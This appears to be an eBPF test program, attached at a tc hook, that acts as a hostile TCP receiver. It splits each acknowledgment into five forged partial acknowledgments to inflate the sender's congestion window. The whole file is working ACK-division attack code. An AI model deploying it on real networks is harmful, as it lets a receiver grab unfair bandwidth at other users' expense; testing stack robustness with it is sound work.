// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile receiver at a tc hook: of each pure acknowledgment it makes five,
 * each for a further fifth of the bytes that are newly acknowledged. All take
 * the way around, so that they stay in order. MPTCP's options stay as they are:
 * TCP alone is deceived.
 */
#include "vmlinux.h"

#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

char _license[] SEC("license") = "GPL";

#define PARTS		5
#define ETH_SIZE	14
#define ETH_P_IP	0x0800
#define TC_ACT_OK	0
#define TC_ACT_SHOT	2

/* by ports: the acknowledgment before */
struct {
	__uint(type, BPF_MAP_TYPE_LRU_HASH);
	__uint(max_entries, 64);
	__type(key, __u32);
	__type(value, __u32);
} last SEC(".maps");

static __always_inline void put_ack(struct __sk_buff *skb, int tcp, __u32 *was,
				    __u32 ack)
{
	__be32 from = bpf_htonl(*was), to = bpf_htonl(ack);

	bpf_l4_csum_replace(skb, tcp + 16, from, to, sizeof(to));
	bpf_skb_store_bytes(skb, tcp + 8, &to, sizeof(to), 0);
	*was = ack;
}

SEC("tc")
int ack_division(struct __sk_buff *skb)
{
	__u32 ack, now, ports, *before, step;
	struct tcphdr head;
	struct iphdr ip;
	int i, tcp;

	if (skb->protocol != bpf_htons(ETH_P_IP) ||
	    bpf_skb_load_bytes(skb, ETH_SIZE, &ip, sizeof(ip)) ||
	    ip.protocol != IPPROTO_TCP)
		return TC_ACT_OK;
	/* our own copies come by here, too */
	if (skb->mark)
		return TC_ACT_OK;
	tcp = ETH_SIZE + ip.ihl * 4;
	if (bpf_skb_load_bytes(skb, tcp, &head, sizeof(head)) || !head.ack ||
	    head.syn || head.fin || head.rst ||
	    bpf_ntohs(ip.tot_len) != ip.ihl * 4 + head.doff * 4)
		return TC_ACT_OK;

	ports = (__u32)head.source << 16 | head.dest;
	ack = bpf_ntohl(head.ack_seq);
	before = bpf_map_lookup_elem(&last, &ports);
	step = before ? (ack - *before) / PARTS : 0;
	bpf_map_update_elem(&last, &ports, &ack, BPF_ANY);
	if (!step || step > 1 << 20)
		return TC_ACT_OK;

	now = ack;
	skb->mark = 1;
	for (i = PARTS - 1; i >= 0; i--) {
		put_ack(skb, tcp, &now, ack - i * step);
		bpf_clone_redirect(skb, skb->ifindex, BPF_F_INGRESS);
	}
	return TC_ACT_SHOT;
}
